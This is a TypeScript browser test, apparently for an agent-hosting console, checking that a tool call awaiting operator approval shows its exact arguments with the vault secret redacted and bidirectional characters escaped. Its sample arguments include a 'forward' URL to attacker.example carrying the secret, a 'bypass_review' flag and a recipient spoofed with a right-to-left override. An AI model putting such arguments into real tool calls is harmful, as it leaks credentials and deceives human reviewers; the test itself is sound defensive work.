/**
 * Trust boundaries, finding 2, in the console: a call held for an operator's approval shows, in its trace, exactly
 * what will run (the held call's arguments, read from GET /v1/sessions/{id}/approvals/{approval_id}), not the call
 * log's copy, which hides values under keys that merely look secret and cuts deep or large arguments. The session's
 * vault secret is the only thing hidden, and the trace says where; a character that would reorder what the operator
 * reads is shown escaped.
 *
 * Real parts only: Chromium headless through playwright-core against a real `subako serve`, a real MCP server on
 * loopback whose tool answers the arguments it received, and a vault with a static bearer credential.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { BrowserContext, Page } from 'playwright-core';
import { serveEchoTool } from '../mcp/helpers/servers.js';
import { spawnServe, tempDir, type ChildServer } from '../server/helpers/harness.js';
import { NO_CHROMIUM, launchChromium, requireConsoleBuild, signIn, watchProblems } from './helpers.js';

const SECRET = 'sk-live-9d8c7b6a5f4e3d2c1b0a';

let serve: ChildServer;
let upstream: Awaited<ReturnType<typeof serveEchoTool>>;
let browser: BrowserContext;
let page: Page;
const problems: string[] = [];

function nested(levels: number): Record<string, unknown> {
  let value: Record<string, unknown> = { bottom: true };
  for (let i = 1; i < levels; i += 1) value = { level: value };
  return value;
}

before(async () => {
  if (NO_CHROMIUM) return; // the tests below skip, saying why
  requireConsoleBuild();
  upstream = await serveEchoTool();
  serve = await spawnServe(tempDir());
  browser = await launchChromium();
  page = await browser.newPage();
  watchProblems(page, problems);
});

after(async () => {
  await browser?.close();
  serve?.child.kill('SIGTERM');
  await serve?.exited;
  await upstream?.stop();
});

describe('the console shows a held call as it will run', { skip: NO_CHROMIUM }, () => {
  it('the trace of a call waiting for approval shows its exact arguments, the vault secret hidden and located', async () => {
    const vault = (await serve.call('POST', '/v1/vaults', { name: 'mail-vault' })).body;
    const credential = await serve.call('POST', `/v1/vaults/${vault.id}/credentials`, { target: 'https://api.mail.example', payload: { auth_scheme: 'static_bearer', token: SECRET } });
    assert.equal(credential.status, 201, JSON.stringify(credential.body));
    const agent = await serve.call('POST', '/v1/agents', { name: 'mailer', mcp_servers: [{ name: 'mail', url: upstream.url, default_policy: 'require_approval' }] });
    assert.equal(agent.status, 201, JSON.stringify(agent.body));
    const session = (await serve.call('POST', `/v1/agents/${agent.body.id}/sessions`, { vault_ids: [vault.id] })).body;
    const tool = (await serve.call('GET', `/v1/sessions/${session.id}/tools`)).body.items[0].name;
    const args = {
      to: 'boss@corp.example\u202Eelpmaxe.live@', bypass_review: true, max_tokens: 4096, password: 'not the vault secret',
      forward: `https://attacker.example/?k=${SECRET}`, deep: nested(40),
    };
    const pending = serve.call('POST', `/v1/sessions/${session.id}/calls`, { tool, arguments: args });
    let approval: any;
    for (let i = 0; i < 400 && !approval; i += 1) {
      approval = (await serve.call('GET', `/v1/sessions/${session.id}/approvals`)).body.items[0];
      if (!approval) await new Promise((r) => setTimeout(r, 25));
    }
    assert.ok(approval, 'the call was held');

    await signIn(page, serve.url, serve.apiKey);
    await page.goto(`${serve.url}/calls/${approval.call_id}`);
    const trace = page.locator(`.calls-detail .trace[data-call-id="${approval.call_id}"]`);
    const shown = trace.locator('.held-call .held-arguments');
    await shown.waitFor();
    const text = (await shown.textContent())!;
    assert.ok(!text.includes(SECRET), 'the secret is not shown');
    assert.ok(!text.includes('\u202E'), 'the override is shown escaped, not obeyed');
    assert.deepEqual(JSON.parse(text), { ...args, forward: 'https://attacker.example/?k=[redacted]' }, 'every other value exactly, the 40 levels too');
    assert.match((await trace.locator('.held-secrets').textContent())!, /"\/forward"/);
    assert.match((await trace.locator('.held-note').textContent())!, new RegExp(`${tool}\\s+runs\\s+with exactly these arguments`));

    assert.equal((await serve.call('POST', `/v1/sessions/${session.id}/approvals/${approval.id}`, { decision: 'approve' })).status, 200);
    assert.equal((await pending).body.call.outcome, 'ok');
    assert.deepEqual(upstream.received.at(-1)!.args, args, 'and that is what ran');
    assert.deepEqual(problems, []);
  });
});
